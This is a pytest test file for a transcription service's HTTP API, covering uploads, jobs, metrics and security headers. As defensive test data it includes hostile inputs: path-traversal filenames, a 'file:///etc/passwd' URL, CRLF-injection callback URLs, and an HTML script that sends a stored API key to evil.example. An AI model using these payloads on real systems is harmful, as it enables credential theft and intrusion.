"""The HTTP API on a real uvicorn on 127.0.0.1, over the real local adapters.

No model here: a job is finished through the service functions, as a worker would.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path

import httpx
import pytest

from swescribe.api import create_app
from swescribe.bootstrap import build_local_api, build_local_keys, build_local_services
from swescribe.config import Settings
from swescribe.core.jobs import result_key
from swescribe.core.ports import Message
from swescribe.core.processing import Outcome, claim_job, complete_job
from swescribe.core.request import MAX_SPEAKERS
from swescribe.core.services import Services
from tests.support import free_port, serving

MAX_UPLOAD = 64 * 1024
METRICS_TOKEN = "metrics-token-for-tests-0123456789"
SCRAPER = {"Authorization": f"Bearer {METRICS_TOKEN}"}


@dataclass
class Api:
    url: str
    key: str
    svc: Services
    data_dir: Path

    def http(self, key: str | None = None) -> httpx.Client:
        return httpx.Client(base_url=self.url, headers={"X-API-Key": key or self.key}, timeout=10)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    data_dir = tmp_path_factory.mktemp("api")
    port = free_port()
    settings = Settings.from_env(
        {},
        data_dir=data_dir,
        public_url=f"http://127.0.0.1:{port}",
        max_upload_bytes=MAX_UPLOAD,
        rate_limit_per_minute=0,  # the limits have their own tests (test_api_limits.py)
        auth_failures_per_minute=0,
        metrics_token=METRICS_TOKEN,
    )
    svc = build_local_services(settings)
    _, key = build_local_keys(settings).create("tests")
    with serving(create_app(build_local_api(settings, svc)), port) as url:
        yield Api(url, key, svc, data_dir)


def register(api: Api, **body: object) -> dict[str, object]:
    with api.http() as http:
        response = http.post("/api", json=body or {"callback_url": "https://client.example/hook"})
    assert response.status_code == 200, response.text
    return dict(response.json())


def put(url: str, data: bytes, filename: str = "audio.wav") -> httpx.Response:
    return httpx.put(url, params={"filename": filename}, content=data, timeout=10)


def test_post_api_answers_the_seed_contract_plus_upload_fields(api: Api) -> None:
    body = register(api, callback_url="https://client.example/hook", callback_secret="s")
    job_id = body["callback_id"]
    assert set(body) == {
        "callback_id",
        "upload_path",
        "message",
        "upload_url",
        "upload_method",
        "upload_fields",
        "expires_at",
    }
    assert body["upload_path"] == f"transcription_upload/{job_id}/"
    assert body["message"] == "Upload audio files to the provided S3 path"
    assert body["upload_method"] == "PUT"
    assert str(body["expires_at"]).endswith("Z")


def test_an_upload_is_stored_under_the_jobs_prefix_and_launches_the_job(api: Api) -> None:
    body = register(api)
    response = put(str(body["upload_url"]), b"RIFF....fake", "../../etc/Ölandsbron talk.wav")
    assert response.status_code == 200, response.text
    key = response.json()["key"]
    assert key == f"{body['upload_path']}Ölandsbron_talk.wav"
    assert response.json()["event"] == "launched"
    assert (api.data_dir / "objects" / key).read_bytes() == b"RIFF....fake"
    with api.http() as http:
        job = http.get(f"/v1/jobs/{body['callback_id']}").json()
    assert job["status"] == "launching"
    assert job["s3_key"] == key
    again = put(str(body["upload_url"]), b"other", "b.wav")
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "conflict"


def test_eight_racing_puts_to_one_link_store_exactly_one_file(api: Api) -> None:
    body = register(api)
    url = str(body["upload_url"])
    start = threading.Barrier(8)

    def upload(number: int) -> httpx.Response:
        def chunks() -> Iterator[bytes]:
            start.wait()
            for _ in range(16):
                yield b"\0" * 1024

        return httpx.put(url, params={"filename": f"file{number}.wav"}, content=chunks())

    with ThreadPoolExecutor(max_workers=8) as pool:
        answers = list(pool.map(upload, range(8)))
    codes = sorted(answer.status_code for answer in answers)
    assert codes == [200] + [409] * 7, [answer.text for answer in answers]
    for answer in answers:
        if answer.status_code == 409:
            assert answer.json()["error"]["code"] == "conflict"
    stored = list((api.data_dir / "objects" / str(body["upload_path"])).iterdir())
    assert len(stored) == 1
    assert stored[0].stat().st_size == 16 * 1024
    assert list((api.data_dir / "staging").glob("upload-*")) == []


def test_an_aborted_upload_leaves_nothing_and_the_link_can_be_used_again(api: Api) -> None:
    body = register(api)
    url = httpx.URL(str(body["upload_url"]))
    with socket.create_connection((url.host, url.port or 80), timeout=10) as raw:
        raw.sendall(
            f"PUT {url.raw_path.decode()}?filename=cut.wav HTTP/1.1\r\n"
            f"Host: {url.host}\r\nContent-Length: 100000\r\n\r\n".encode()
            + b"\0" * 5000
        )
        time.sleep(0.3)  # the server is streaming it now
    upload_dir = api.data_dir / "objects" / str(body["upload_path"])
    deadline = time.monotonic() + 10
    again = put(str(body["upload_url"]), b"RIFF-whole", "whole.wav")
    while again.status_code == 409 and time.monotonic() < deadline:
        time.sleep(0.1)
        again = put(str(body["upload_url"]), b"RIFF-whole", "whole.wav")
    assert again.status_code == 200, again.text
    assert [path.name for path in upload_dir.iterdir()] == ["whole.wav"]
    assert list((api.data_dir / "staging").glob("upload-*")) == []


def test_oversized_uploads_are_refused_while_streaming_and_leave_nothing(api: Api) -> None:
    body = register(api)

    def chunks() -> Iterator[bytes]:  # no Content-Length: the limit must hold mid-stream
        for _ in range(MAX_UPLOAD // 1024 + 10):
            yield b"\0" * 1024

    streamed = httpx.put(str(body["upload_url"]), params={"filename": "a.wav"}, content=chunks())
    declared = put(str(body["upload_url"]), b"\0" * (MAX_UPLOAD + 1))
    for response in (streamed, declared):
        assert response.status_code == 413
        assert response.json()["error"]["code"] == "payload_too_large"
    assert not (api.data_dir / "objects" / str(body["upload_path"])).exists()
    assert list((api.data_dir / "staging").glob("upload-*")) == []


def test_empty_uploads_and_bad_links_get_clear_errors(api: Api) -> None:
    body = register(api)
    url = str(body["upload_url"])
    empty = put(url, b"")
    assert empty.status_code == 422
    assert "empty" in empty.json()["error"]["message"]
    forged = put(url[:-3] + "AAA", b"data")
    assert forged.status_code == 401
    assert forged.json()["error"]["message"] == "the upload link is not valid"


def test_v1_create_get_list_and_filters(api: Api) -> None:
    with api.http() as http:
        created = http.post("/v1/jobs", json={"formats": ["txt", "srt"], "language": "sv"})
        assert created.status_code == 201
        job = created.json()
        assert job["upload"]["method"] == "PUT"
        assert job["formats"] == ["txt", "srt"]
        ids = [http.post("/v1/jobs", json={}).json()["job_id"] for _ in range(3)]
        first = http.get("/v1/jobs", params={"limit": 2}).json()
        second = http.get("/v1/jobs", params={"limit": 2, "cursor": first["next_cursor"]}).json()
        registered = http.get("/v1/jobs", params={"status": "registered", "limit": 200}).json()
        bad_status = http.get("/v1/jobs", params={"status": "sleeping"})
    assert [j["job_id"] for j in first["jobs"]] == ids[::-1][:2]
    assert second["jobs"][0]["job_id"] == ids[0]
    assert {job["job_id"], *ids} <= {j["job_id"] for j in registered["jobs"]}
    assert bad_status.status_code == 422


def test_a_finished_job_serves_every_format_and_delete_removes_everything(api: Api) -> None:
    with api.http() as http:
        job_id = http.post("/v1/jobs", json={}).json()["job_id"]
        early = http.get(f"/v1/jobs/{job_id}/transcript")
    assert early.status_code == 409
    assert early.json()["error"]["code"] == "not_ready"
    svc = api.svc
    svc.jobs.update(job_id, None, {"status": "launching"})
    from swescribe.core.ports import WorkItem

    claim = claim_job(svc, Message(WorkItem("transcribe", job_id), "r", 1), "w1")
    assert claim.job is not None
    keys = {}
    for fmt, text in (("txt", "Hej världen\n"), ("srt", "1\n00:00:00,000 --> 00:00:01,000\nHej\n")):
        keys[fmt] = result_key(job_id, svc.clock.now(), "audio", fmt)
        svc.objects.put_bytes(keys[fmt], text.encode())
    complete_job(svc, job_id, "w1", Outcome("whisper-base", 1.0, 0.5, 10, keys))
    with api.http() as http:
        txt = http.get(f"/v1/jobs/{job_id}/transcript")
        srt = http.get(f"/v1/jobs/{job_id}/transcript", params={"format": "srt"})
        vtt = http.get(f"/v1/jobs/{job_id}/transcript", params={"format": "vtt"})
        deleted = http.delete(f"/v1/jobs/{job_id}")
        gone = http.get(f"/v1/jobs/{job_id}")
    assert txt.text == "Hej världen\n"
    assert txt.headers["content-type"].startswith("text/plain")
    assert srt.headers["content-disposition"].endswith('_audio.srt"')
    assert vtt.status_code == 404, "a format the job did not ask for"
    assert deleted.json() == {"job_id": job_id, "deleted": True, "objects_removed": 2}
    assert gone.status_code == 404
    assert not (api.data_dir / "objects" / "results" / job_id).exists()


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        ({"language": "svenska"}, "language"),
        ({"formats": ["docx"]}, "formats"),
        ({"formats": []}, "formats"),
        ({"word_timestamps": "ja"}, "word_timestamps"),
        ({"diarize": True, "speakers": 0}, "speakers"),
        ({"speakers": 33}, "speakers"),
        ({"colour": "blue"}, "colour"),
        ({"callback_url": "https://10.1.2.3/hook"}, "private"),
        ({"audio_url": "file:///etc/passwd"}, "https"),
        ([1, 2, 3], "body"),
    ],
)
def test_bad_bodies_get_a_json_error_naming_the_problem(
    api: Api, body: object, fragment: str
) -> None:
    with api.http() as http:
        response = http.post("/v1/jobs", json=body)
    assert response.status_code == 422
    assert fragment in response.json()["error"]["message"]


@pytest.mark.parametrize(
    "url",
    [
        "https://client.example/ho\x01ok",
        "https://client.example/hook\r\nX-Injected: 1",
        "https://client.example/a hook",
        "https://client.example/\x7f",
        "https://client.example/\u2028hook",
    ],
    ids=["control", "crlf", "space", "delete", "line-separator"],
)
@pytest.mark.parametrize("path", ["/api", "/v1/jobs"])
def test_a_callback_url_with_control_characters_is_refused_when_the_job_is_made(
    api: Api, path: str, url: str
) -> None:
    """Issue 24: such a URL was stored, and failed only at delivery, after the work."""
    with api.http() as http:
        before = http.get("/v1/jobs", params={"limit": 200}).json()["jobs"]
        response = http.post(path, json={"callback_url": url})
        after = http.get("/v1/jobs", params={"limit": 200}).json()["jobs"]
    assert response.status_code in (400, 422), response.text
    assert "control characters" in response.text
    assert len(after) == len(before), "no job left behind"


def test_auth_errors_and_unknown_routes_are_json(api: Api) -> None:
    with httpx.Client(base_url=api.url) as http:
        missing = http.get("/v1/jobs")
        wrong = http.get("/v1/jobs", headers={"X-API-Key": "sws_abc_def"})
        unknown = http.get("/nope")
        method = http.put("/api")
    assert missing.status_code == wrong.status_code == 401
    assert missing.json()["error"]["code"] == "unauthorized"
    assert unknown.status_code == 404
    assert unknown.json()["error"]["code"] == "not_found"
    assert method.status_code == 405


def test_health_metrics_and_openapi(api: Api) -> None:
    with httpx.Client(base_url=api.url) as http:
        health = http.get("/healthz").json()
        metrics = http.get("/metrics", headers=SCRAPER)
        schema = http.get("/openapi.json").json()
    assert health["status"] == "ok"
    assert health["version"] == version("swescribe")
    assert metrics.headers["content-type"].startswith("text/plain")
    assert 'swescribe_jobs{status="registered"}' in metrics.text
    for name in ("processing_seconds_total", "audio_seconds_total", "webhook_attempts_total"):
        assert f"# TYPE swescribe_{name} counter" in metrics.text
    paths = set(schema["paths"])
    assert {"/api", "/v1/jobs", "/v1/jobs/{job_id}", "/v1/jobs/{job_id}/transcript"} <= paths
    assert "/v1/uploads/{token}" in paths


def test_the_openapi_schema_describes_a_job_as_every_job_route_returns_it(api: Api) -> None:
    with httpx.Client(base_url=api.url) as http:
        schema = http.get("/openapi.json").json()
    with api.http() as http:
        created = http.post("/v1/jobs", json={"formats": ["srt"], "speakers": 2}).json()
        read = http.get(f"/v1/jobs/{created['job_id']}").json()
        listed = http.get("/v1/jobs").json()["jobs"]

    def returned(path: str, method: str, status: str = "200") -> str:
        content = schema["paths"][path][method]["responses"][status]["content"]
        return str(content["application/json"]["schema"]["$ref"]).rsplit("/", 1)[-1]

    described = schema["components"]["schemas"]
    job = described[returned("/v1/jobs/{job_id}", "get")]
    assert set(job["properties"]) == set(read)
    assert set(described[returned("/v1/jobs", "post", "201")]["properties"]) == set(created)
    assert set(created) == set(read) | {"upload"}
    assert created["job_id"] in {j["job_id"] for j in listed}
    assert all(set(j) == set(read) for j in listed)
    statuses = described[job["properties"]["status"]["$ref"].rsplit("/", 1)[-1]]["enum"]
    assert statuses == ["registered", "launching", "processing", "completed", "failed"]
    assert job["properties"]["speakers"]["anyOf"][0]["maximum"] == MAX_SPEAKERS
    assert (read["formats"], read["speakers"], read["diarize"]) == (["srt"], 2, True)
    assert not {"callback_secret", "owner"} & set(read)


def test_an_audio_link_plays_the_uploaded_audio_with_range_and_only_for_its_owner(
    api: Api,
) -> None:
    body = register(api)
    audio = bytes(range(256)) * 40
    assert put(str(body["upload_url"]), audio, "möte.wav").status_code == 200
    job_id = body["callback_id"]
    with api.http() as http:
        link = http.get(f"/v1/jobs/{job_id}/audio-link")
    assert link.status_code == 200, link.text
    assert link.json()["expires_at"].endswith("Z")
    url = link.json()["url"]
    assert url.startswith(f"{api.url}/v1/objects/")

    whole = httpx.get(url, timeout=10)  # no API key: the link is the permission
    assert whole.status_code == 200
    assert whole.content == audio
    assert whole.headers["accept-ranges"] == "bytes"
    part = httpx.get(url, headers={"Range": "bytes=100-199"}, timeout=10)
    assert part.status_code == 206
    assert part.content == audio[100:200]

    _, other_key = build_local_keys(Settings.from_env({}, data_dir=api.data_dir)).create("other")
    with api.http(other_key) as http:
        assert http.get(f"/v1/jobs/{job_id}/audio-link").status_code == 404


def test_upload_and_download_links_cannot_stand_in_for_each_other(api: Api) -> None:
    body = register(api)
    upload_token = str(body["upload_url"]).rsplit("/", 1)[-1]
    refused = httpx.get(f"{api.url}/v1/objects/{upload_token}", timeout=10)
    assert refused.status_code == 401
    assert refused.json()["error"]["code"] == "unauthorized"

    assert put(str(body["upload_url"]), b"RIFF-audio").status_code == 200
    with api.http() as http:
        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
    download_token = url.rsplit("/", 1)[-1]
    overwrite = httpx.put(f"{api.url}/v1/uploads/{download_token}", content=b"x", timeout=10)
    assert overwrite.status_code == 401
    assert httpx.get(f"{api.url}/v1/objects/not-a-token", timeout=10).status_code == 401


def test_a_job_without_stored_audio_has_no_audio_link(api: Api) -> None:
    body = register(api)
    with api.http() as http:
        missing = http.get(f"/v1/jobs/{body['callback_id']}/audio-link")
    assert missing.status_code == 404
    assert "no stored audio" in missing.json()["error"]["message"]


def metric_values(api: Api) -> dict[str, float]:
    text = httpx.get(f"{api.url}/metrics", headers=SCRAPER, timeout=10).text
    return {
        name: float(value)
        for name, _, value in (line.rpartition(" ") for line in text.splitlines())
        if name and not name.startswith("#")
    }


def test_metrics_totals_count_finished_work_and_never_go_down_when_jobs_are_deleted(
    api: Api,
) -> None:
    svc = api.svc
    before = metric_values(api)
    with api.http() as http:
        job_id = http.post("/v1/jobs", json={}).json()["job_id"]
    svc.jobs.update(job_id, None, {"status": "launching"})
    from swescribe.core.ports import WorkItem

    claim_job(svc, Message(WorkItem("transcribe", job_id), "r", 1), "w1")
    key = result_key(job_id, svc.clock.now(), "audio", "txt")
    svc.objects.put_bytes(key, b"Hej\n")
    complete_job(svc, job_id, "w1", Outcome("whisper-base", 12.5, 2.25, 10, {"txt": key}))
    done = metric_values(api)
    with api.http() as http:
        assert http.delete(f"/v1/jobs/{job_id}").status_code == 200
    after_delete = metric_values(api)

    def grew(values: dict[str, float], name: str) -> float:
        return values[name] - before.get(name, 0.0)

    assert grew(done, "swescribe_jobs_completed_total") == 1
    assert grew(done, "swescribe_audio_seconds_total") == pytest.approx(12.5)
    assert grew(done, "swescribe_processing_seconds_total") == pytest.approx(2.25)
    for name in ("jobs_completed", "audio_seconds", "processing_seconds"):
        total = f"swescribe_{name}_total"
        assert after_delete[total] == done[total], f"{total} went down after a delete"
    assert after_delete['swescribe_jobs{status="completed"}'] == (
        done['swescribe_jobs{status="completed"}'] - 1
    ), "the gauge of stored jobs does go down"


@pytest.mark.parametrize("model", ["..", ".", "kb-whisper-large", "whisper-base", "auto.."])
def test_a_model_the_operator_does_not_offer_is_a_422_naming_the_offered_ones(
    api: Api, model: str
) -> None:
    # The fixture's service runs the default model `auto` and allows no other.
    with api.http() as http:
        response = http.post("/v1/jobs", json={"model": model})
        listed = http.get("/v1/jobs", params={"limit": 200}).json()["jobs"]
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "unknown_model"
    assert "auto" in error["message"]
    assert all(job["model"] != model for job in listed), "no job was stored"


@pytest.mark.parametrize("model", ["../../etc", "/tmp", "KB-WHISPER", "a" * 65])
def test_a_model_that_is_a_path_or_no_name_at_all_is_a_422(api: Api, model: str) -> None:
    with api.http() as http:
        response = http.post("/v1/jobs", json={"model": model})
    assert response.status_code == 422
    assert "model" in response.json()["error"]["message"]


def test_the_offered_model_can_be_asked_for_by_name(api: Api) -> None:
    with api.http() as http:
        response = http.post("/v1/jobs", json={"model": "auto"})
    assert response.status_code == 201, response.text
    assert response.json()["model"] == "auto"


EVIL_HTML = b"<!doctype html><script>fetch('//evil.example/?k='+localStorage.apiKey)</script>"
EVIL_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'


@pytest.mark.parametrize("filename", ["evil.html", "evil.svg", "evil.xhtml", "evil"])
def test_an_uploaded_page_or_svg_is_never_active_content_on_the_apis_origin(
    api: Api, filename: str
) -> None:
    content = EVIL_SVG if filename.endswith(".svg") else EVIL_HTML
    body = register(api)
    assert put(str(body["upload_url"]), content, filename).status_code == 200
    with api.http() as http:
        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
    served = httpx.get(url, timeout=10)  # what a victim's browser gets when it opens the link
    assert served.status_code == 200
    assert served.headers["content-type"] == "application/octet-stream"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-security-policy"].startswith("sandbox")
    assert served.headers["content-disposition"].startswith("attachment")


def test_uploaded_audio_is_served_with_a_fixed_audio_type_as_an_attachment(api: Api) -> None:
    body = register(api)
    assert put(str(body["upload_url"]), b"ID3" + b"\0" * 500, "möte.mp3").status_code == 200
    with api.http() as http:
        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
    served = httpx.get(url, headers={"Range": "bytes=0-2"}, timeout=10)
    assert served.status_code == 206
    assert served.content == b"ID3"
    assert served.headers["content-type"] == "audio/mpeg"
    assert served.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in served.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/healthz"),
        ("GET", "/v1/jobs"),
        ("POST", "/v1/jobs"),
        ("GET", "/nope"),
        ("GET", "/openapi.json"),
        ("GET", "/docs"),
        ("GET", "/"),
        ("GET", "/web/app.js"),
        ("PUT", "/v1/uploads/forged"),
        ("GET", "/v1/objects/forged"),
    ],
)
def test_every_response_carries_the_security_headers(api: Api, method: str, path: str) -> None:
    with httpx.Client(base_url=api.url, timeout=10) as http:
        response = http.request(method, path)
    headers = response.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"
    policy = headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "'unsafe-inline'" not in policy.split("style-src")[0], "no inline script anywhere"
    if headers["content-type"].startswith("application/json"):
        assert policy.startswith("default-src 'none'")


def test_the_api_docs_page_allows_only_its_own_inline_script_by_hash(api: Api) -> None:
    import base64
    import hashlib
    import re

    with httpx.Client(base_url=api.url, timeout=10) as http:
        page = http.get("/docs")
    assert page.status_code == 200
    scripts = re.findall(r"<script>(.*?)</script>", page.text, re.S)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in page.headers["content-security-policy"]


def test_metrics_need_a_key_or_the_metrics_token_and_name_no_tenant(api: Api) -> None:
    with api.http() as http:
        job_id = http.post("/v1/jobs", json={}).json()["job_id"]
    with httpx.Client(base_url=api.url, timeout=10) as http:
        anonymous = http.get("/metrics")
        wrong = http.get("/metrics", headers={"Authorization": "Bearer not-the-token"})
        scraper = http.get("/metrics", headers=SCRAPER)
        keyed = http.get("/metrics", headers={"X-API-Key": api.key})
    for refused in (anonymous, wrong):
        assert refused.status_code == 401
        assert refused.json()["error"]["code"] == "unauthorized"
    for allowed in (scraper, keyed):
        assert allowed.status_code == 200
        assert "swescribe_jobs{" in allowed.text
        assert job_id not in allowed.text
        assert api.key.split("_")[1] not in allowed.text, "no key id, no owner label"


def test_diarize_and_speakers_are_stored_on_the_job(api: Api) -> None:
    with api.http() as http:
        asked = http.post("/v1/jobs", json={"diarize": True}).json()
        counted = http.post("/v1/jobs", json={"speakers": 2}).json()
        plain = http.post("/v1/jobs", json={}).json()
        again = http.get(f"/v1/jobs/{counted['job_id']}").json()
    assert (asked["diarize"], asked["speakers"]) == (True, None)
    assert (counted["diarize"], counted["speakers"]) == (True, 2), "a count implies diarize"
    assert (plain["diarize"], plain["speakers"]) == (False, None)
    assert (again["diarize"], again["speakers"]) == (True, 2)


def test_multichannel_is_stored_on_the_job_and_described_in_the_schema(api: Api) -> None:
    with api.http() as http:
        asked = http.post("/v1/jobs", json={"multichannel": True}).json()
        plain = http.post("/v1/jobs", json={}).json()
        again = http.get(f"/v1/jobs/{asked['job_id']}").json()
        schema = http.get("/openapi.json").json()
    assert (asked["multichannel"], again["multichannel"], plain["multichannel"]) == (
        True,
        True,
        False,
    )
    described = schema["components"]["schemas"]["CreateJobRequest"]["properties"]
    assert described["multichannel"]["type"] == "boolean"


def test_a_playlist_upload_is_refused_by_name_and_the_job_still_takes_audio(api: Api) -> None:
    body = register(api)
    playlist = b"#EXTM3U\n#EXTINF:4.0,\n/etc/swescribe/secret.mp3\n#EXT-X-ENDLIST\n"
    refused = put(str(body["upload_url"]), playlist, "x.m3u8")
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "invalid_audio"
    with api.http() as http:
        job = http.get(f"/v1/jobs/{body['callback_id']}").json()
        before = len(http.get("/v1/jobs", params={"limit": 200}).json()["jobs"])
        named = http.post("/v1/jobs", json={"filename": "list.ffconcat"})
        after = len(http.get("/v1/jobs", params={"limit": 200}).json()["jobs"])
    assert job["status"] == "registered"
    assert named.status_code == 422
    assert after == before, "a refused job is not left behind"
    assert put(str(body["upload_url"]), b"RIFF" + bytes(64), "möte.wav").status_code == 200
